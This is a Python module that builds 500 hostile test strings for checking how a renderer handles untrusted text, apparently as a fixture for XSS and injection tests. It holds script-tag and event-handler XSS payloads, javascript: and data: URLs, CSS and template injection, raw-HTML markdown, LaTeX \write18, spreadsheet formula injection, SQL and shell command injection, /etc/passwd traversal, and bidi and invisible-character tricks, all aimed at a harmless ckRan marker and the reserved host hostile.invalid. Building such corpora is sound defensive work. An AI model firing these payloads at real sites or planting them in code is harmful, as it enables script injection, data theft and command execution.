"""500 texts that mean ill, in families, for whatever shows a text that somebody else wrote.

What runs calls ``ckRan`` with the number of its text, and what fetches asks ``hostile.invalid`` for it: a
page that listens to both knows which of them came through.
"""

from __future__ import annotations

from collections.abc import Sequence
from itertools import product
from typing import NamedTuple

HOST = "hostile.invalid"
COUNT = 500


class Hostile(NamedTuple):
    """A text, its number from 0, and the family it is of."""

    number: int
    family: str
    text: str


# In what follows, @ stands for the number of the text, RUN for a script that tells of itself,
# AWAY for an address that nobody must ask for, and ⏎ for the end of a line.
_WRITTEN = r"""
=== markup
<b>bold @
<plaintext>@
<base href=AWAY>
<meta http-equiv=refresh content='0;url=AWAY'>
<link rel=stylesheet href=AWAY>
<table><td>@
<iframe src=AWAY></iframe>
<object data=AWAY></object>
<embed src=AWAY>
<video src=AWAY autoplay>
<audio src=AWAY autoplay>
<input type=image src=AWAY>
</div></div></div>@
<img srcset='AWAY 1x'>
<picture><source srcset=AWAY><img></picture>
<details open>@</details>
<form action=AWAY><input autofocus>
<frameset><frame src=AWAY>
<link rel=prefetch href=AWAY>
<script src=AWAY></script>
<!--@
<![CDATA[@
<td colspan=1000>@
<textarea>@
<template>@
=== scripts
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script >RUN</script >
<script⏎>RUN</script⏎>
<script/x>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script type=module>RUN</script>
<script>/*@*/RUN//
<script>RUN<!--
<<script>RUN//<</script>
<script>eval('RUN')</script>
<script>setTimeout('RUN')</script>
<script>alert(@)</script>
<script>confirm(@)</script>
<script>prompt(@)</script>
<script>Function('RUN')()</script>
<script>top.RUN</script>
<script>fetch('AWAY')</script>
<script>new Image().src='AWAY'</script>
<script>navigator.sendBeacon('AWAY')</script>
<script>import('AWAY')</script>
＜script＞RUN＜/script＞
<script>location='AWAY'</script>
<script>open('AWAY')</script>
<script>document.write('@')</script>
=== addresses
javascript:RUN
JaVaScRiPt:RUN
javascript&colon;RUN
 javascript:RUN
data:text/html,<script>parent.RUN</script>
data:text/html;base64,PHNjcmlwdD5ja1JhbigpPC9zY3JpcHQ+@
vbscript:RUN
javascript://%0aRUN
AWAY
//hostile.invalid/@
https:AWAY
<a href=javascript:RUN>@</a>
<iframe src=javascript:parent.RUN></iframe>
\\hostile.invalid\@
<form action=javascript:RUN><button autofocus>
<a href=data:text/html,@>@</a>
www.hostile.invalid/@
blob:AWAY
view-source:AWAY
filesystem:AWAY
mailto:x@y?subject=@
ws://hostile.invalid/@
<object data=javascript:RUN>
<a href=AWAY ping=AWAY>@</a>
file:///etc/passwd#@
AWAY?a=1&b=2#c
=== styles
url(AWAY)
red;background:url(AWAY)
<style>*{background:url(AWAY)}</style>
expression(RUN)
<style>@import 'AWAY';</style>
<style>@import url(AWAY);</style>
</style><style>*{display:none}</style>
<div style='position:fixed;inset:0;z-index:9999;background:red'>@</div>
; width: 9999px; x: @
<style>body{display:none}</style>@
x; position: fixed; inset: 0; @
width:expression(RUN)
<link rel='stylesheet' href='data:text/css,*{display:none}'>@
<style>@font-face{src:url(AWAY)}</style>
<div style=background-image:url(AWAY)>@</div>
<p style='font-size:9999px'>@</p>
-moz-binding:url(AWAY)
<div style='width:99999px'>@</div>
<p style='margin-left:-9999px'>@
<ul style='list-style:url(AWAY)'>@
behavior:url(AWAY)
</style><img src=x onerror=RUN>
image-set('AWAY' 1x)
var(--x,url(AWAY))@
red"; background: url('AWAY'); "
calc(99999px * @)
<style>:root{zoom:9}</style>@
=== drawings
<svg><script>RUN</script></svg>
<svg onload=RUN>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x>
<svg><image href=AWAY width=9 height=9>
<svg><use href='AWAY#x'>
<svg><a href=javascript:RUN><text y=9>@</text></a>
<svg><foreignObject><body onload=RUN>
<svg>@
<svg><style>*{fill:url(AWAY)}</style>
<svg><script href=AWAY></script>
<svg><desc><img src=AWAY>
<math><mtext><img src=x onerror=RUN></mtext>
<math href=javascript:RUN>@</math>
</svg><img src=AWAY>
<math><annotation-xml encoding='text/html'><img src=x onerror=RUN>
<svg><title><img src=x onerror=RUN>
<svg><feImage href=AWAY>
<svg width=99999 height=99999><rect width=99999 height=9 />@
</text><script>RUN
<svg><image xlink:href='AWAY' width=9>
<?xml-stylesheet href='AWAY'?>@
<!DOCTYPE x [<!ENTITY y '@'>]>&y;
<svg><mpath href=AWAY>
<svg><filter id=a><feImage xlink:href=AWAY /></filter>
"/><image href='AWAY'/>
=== templates
{{ 7 * @ }}
{{constructor.constructor('RUN')()}}
${RUN}
`${RUN}`
#{RUN}
<%= RUN %>
<% RUN %>
<?php echo @; ?>
{% raw %}@{% endraw %}
{% include 'AWAY' %}
{{ config }}@
{#@#}
{{ ''.__class__.__mro__ }}@
{@}
{0}{1}{@}
%s%s%d%@
%(password)s@
{title}{body}@
{{{@}}}
$ne @
@{{x}}
[[${RUN}]]
*{RUN}
~{RUN}
${{RUN}}
{%- if @ %}
<#assign x=@>
#set($x=@)
[(${@})]
{{= @ }}
datum.x + @
'; datum.@; '
' + RUN + '
" + RUN + "
\u003cscript\u003eRUN
{{{{@}}}}
<script>{{ RUN }}</script>
ng-app {{$on.constructor('RUN')()}}
v-html='RUN' @
::before@
=== markdown
# Heading @
***⏎@
> quote @
    code @
~~~⏎@
```⏎@⏎```
````{note}⏎@⏎````
```{raw} html⏎<script>RUN</script>⏎```
:::{div} @⏎x⏎:::
```{eval-rst}⏎.. raw:: html⏎⏎   <script>RUN</script>⏎```
.. raw:: html⏎⏎   <script>RUN</script>
```{include} /etc/passwd⏎```@
```{literalinclude} conf.py⏎```@
{include}`/etc/passwd` @
{ref}`@`
```{toctree}⏎@⏎```
```{code-cell}⏎RUN⏎```
{raw-html}`<script>RUN</script>`
{download}`@ </etc/passwd>`
![@](AWAY)
[@](javascript:RUN)
[@]: AWAY
<AWAY>
![x][@]
(@)=
(case-x)=⏎## @
{#id-@ .class onclick=RUN}
| a | b @ |
|---|---|⏎| @ |
*em* **strong @**
@⏎: definition
:field @: value
[^@]
[^@]: note
% comment @
+++ @
---⏎html_meta: @⏎---
&lt;@
`@
`code` @ ``
|subst@|
.. include:: /etc/passwd @
:doc:`@`
`@ <javascript:RUN>`_
.. image:: AWAY
@::⏎⏎  x
{attr}`@`{onclick=RUN}
{.ck-dense} @
<!-- @ -->
www.hostile.invalid @
=== mathematics
$@$
$$@$$
\(@\)
\[@\]
$\href{javascript:RUN}{@}$
\begin{equation}@\end{equation}
$\unicode{x@}$
$\require{html}\style{background:url(AWAY)}{@}$
\def\x{\x\x}\x @
\input{@}
$$\begin{align}@
{math}`@`
```{math}⏎@⏎```
$\class{@}{x}$
\write18{touch @}
$\cssId{@}{x}$
$ @
\$@\$
$\includegraphics{AWAY}$
\url{AWAY}
$\text{<img src=AWAY>}$
$$<script>RUN</script>$$
=== entities
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;img src=AWAY&#x3e;
&amp;lt;@
&@
&#0;@
&#x110000;@
&nbsp;@
&#xD800;@
&quot;@&quot;
&#8238;@
&lt@&gt
&notanentity;@
&&&@
%3Cscript%3ERUN%3C/script%3E
\x3cscript\x3eRUN
\74script\76RUN
+ADw-script+AD4-RUN
&Tab;@&NewLine;
=== other
{"__proto__": {"x": @}}
__proto__@
constructor@
=HYPERLINK("AWAY")
=cmd|' /C calc'!A@
+1+@
'; DROP TABLE exchanges; -- @
"}]}; RUN; //
$(touch @)
`touch @`
../../etc/passwd@
CON@
null@
NaN@
undefined@
true@
-1e999@
[object Object]@
�@
IPY_MODEL_@
@@@@
Infinity@
<12 bytes of image/png> @
"""
_PAYLOADS = ("<script>RUN</script>", "<img src=AWAY onerror=RUN>")
_EVENTS = """
onanimationstart onauxclick onbeforeinput onbeforetoggle onblur oncanplay onclick oncontextmenu
oncopy ondblclick ondragenter onerror onfocus onfocusin oninput onkeydown onload onloadstart
onmessage onmousedown onmouseenter onmousemove onmouseover onmousewheel onpageshow onpaste
onpointerdown onpointerenter onpointerover onresize onscroll onselect ontoggle ontouchstart
ontransitionend onwheel
"""
_HANDLERS = (
    "<img src=x EVENT=RUN>",
    "<details open EVENT=RUN>@</details>",
    "<svg EVENT=RUN>",
    "<input autofocus EVENT=RUN>",
    "<body EVENT=RUN>",
    "<div contenteditable tabindex=0 style='position:fixed;inset:0' EVENT=RUN>@",
)
_CLOSERS = (
    *(
        "</script>",
        "</style>",
        "</textarea>",
        "</title>",
        "-->",
        "]]>",
        "</noscript>",
        "</template>",
        "</iframe>",
    ),
    *(
        "</svg>",
        "</math>",
        "</select>",
        "</td></tr></table>",
        "</pre></code>",
        "</option></select>",
        "</SCRIPT >",
    ),
)
_QUOTES = ('"', "'", "`", '">', "'>", '\\">', "\\'", "&quot;", "' /", '" \n')
_IN_A_TAG = ("autofocus tabindex=0 onfocus=RUN x=", "><svg onload=RUN>")
_TURNERS = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
_INVISIBLE = (
    *(
        "\u200b",
        "\u200c",
        "\u200d",
        "\u2060",
        "\ufeff",
        "\u00ad",
        "\u180e",
        "\u034f",
        "\u115f",
        "\u3164",
        "\uffa0",
        "\u2800",
    ),
    *("\U000e0041\U000e0042", "\ufe0f", "\u17b4", "\ufff9\ufffa\ufffb", "\U0001d173", "\u2061\u2062\u2063"),
)
_RIGHT_TO_LEFT = (
    *(
        "\u05e9\u05dc\u05d5\u05dd @",
        "\u0645\u0631\u062d\u0628\u0627 @",
        "(@) \u05e9\u05dc\u05d5\u05dd (",
        "\u05d0 1-2-3 @ \u05d1",
    ),
    *(
        "\u0645 <b>@</b> \u0645",
        "\ufdfa" * 40 + "@",
        "\u07c1\u07ca\u07de @",
        "\u0627\u064b\u064b\u064b @",
        "\U0001e900@",
        "@ \u0645!",
    ),
)
_CONTROLS = (
    *(f"control {chr(code)} @" for code in (0, 1, 7, 8, 9, 10, 11, 12, 13, 27, 31, 127)),
    *(f"control {chr(code)} @" for code in (0x80, 0x85, 0x9B, 0x9F, 0x2028, 0x2029, 0xFFFE, 0xFFFF)),
    *(
        "\x1b[2J@",
        "\x1b[31mred @\x1b[0m",
        "\x1b]0;title @\x07",
        "\x1b]8;;AWAY\x1b\\@\x1b]8;;\x1b\\",
        "\x9b31m@",
        "\r@",
    ),
    *(
        "\x1b[9999C@",
        "\x1bP@\x1b\\",
        "\x00" * 300 + "@",
        "\b" * 40 + "@",
        "one\r\ntwo\rthree\n@",
        "\x1b[8mhidden @",
    ),
)
_HIDDEN = ("\x00<script>RUN</script>", "java\tscript:RUN", "\x01javascript:RUN")
_HALVES = ("half \ud83d @", "\udc00@", "@\ud83d", "\udc00\ud83d @", "\ud800" * 50 + "@", "<b\udfff>@")
_SPACES = (
    *(" " * 5_000 + "@", "\n" * 500 + "@", "\t" * 2_000 + "@", "\u00a0" * 2_000 + "@", "\u3000" * 500 + "@"),
    *("@" + " \n" * 400, "\u2003" * 400 + "@", "\u202f" * 800 + "@", "\r\n" * 300 + "@", " @ "),
)
_LONG = (
    *(
        "w" * 300 + "@",
        "W" * 5_000 + "@",
        "i" * 2_000 + "@",
        "\u6f22" * 2_000 + "@",
        "-" * 2_000 + "@",
        "_" * 3_000 + "@",
    ),
    *(
        "\U0001f469\u200d\U0001f680" * 500 + "@",
        "&" * 2_000 + "@",
        "<" * 2_000 + "@",
        "/" * 1_000 + "@",
        "." * 2_000 + "@",
    ),
    *(
        "a\u00a0" * 1_000 + "@",
        "http://127.0.0.1/" + "x" * 3_000 + "@",
        "\\" * 1_000 + "@",
        "{" * 1_000 + "@",
        "Xy9" * 6_000 + "@",
    ),
)


def _lines_of(family: str) -> list[str]:
    """What stands below its name, a template on each line."""
    return _WRITTEN.partition(f"=== {family}\n")[2].partition("\n===")[0].strip("\n").split("\n")


_FAMILIES: dict[str, Sequence[str]] = {
    "markup": _lines_of("markup"),
    "scripts": _lines_of("scripts"),
    "handlers": [
        _HANDLERS[n % len(_HANDLERS)].replace("EVENT", one) for n, one in enumerate(_EVENTS.split())
    ],
    "breakouts": [closer + payload for closer, payload in product(_CLOSERS, _PAYLOADS)],
    "attributes": [f"@{quote} {rest}" for quote, rest in product(_QUOTES, _IN_A_TAG)],
    "addresses": _lines_of("addresses"),
    "styles": _lines_of("styles"),
    "drawings": _lines_of("drawings"),
    "templates": _lines_of("templates"),
    "markdown": _lines_of("markdown"),
    "mathematics": _lines_of("mathematics"),
    "entities": _lines_of("entities"),
    "turned": [f"@ {sign}turned around <b> (1)" for sign in _TURNERS]
    + [f"{sign * 40}@ abc" for sign in _TURNERS]
    + ["\u202e\u2066@", "\u2069\u202c@", "@ \u2067\u202dgpj.exe", "\u202e<script>RUN</script>"],
    "invisible": [f"@{sign}{'x'.join([sign] * 20)}" for sign in _INVISIBLE],
    "stacks": [f"e{sign * height}@" for sign, height in product("\u0301\u0489\u0335\u20dd\u0e47", (60, 500))],
    "right to left": _RIGHT_TO_LEFT,
    "controls": [*_CONTROLS, *_HIDDEN],
    "halves": _HALVES,
    "spaces": _SPACES,
    "long": _LONG,
    "other": _lines_of("other"),
}


def _written(number: int, template: str) -> str:
    text = template.replace("RUN", "ckRan(@)").replace("AWAY", f"http://{HOST}/@").replace("⏎", "\n")
    return text.replace("@", str(number))


_ALL = [(family, one) for family, templates in _FAMILIES.items() for one in templates]
ALL = tuple(Hostile(number, family, _written(number, one)) for number, (family, one) in enumerate(_ALL))
TEXTS = tuple(one.text for one in ALL)
assert len(TEXTS) == len(set(TEXTS)) == COUNT, len(set(TEXTS))
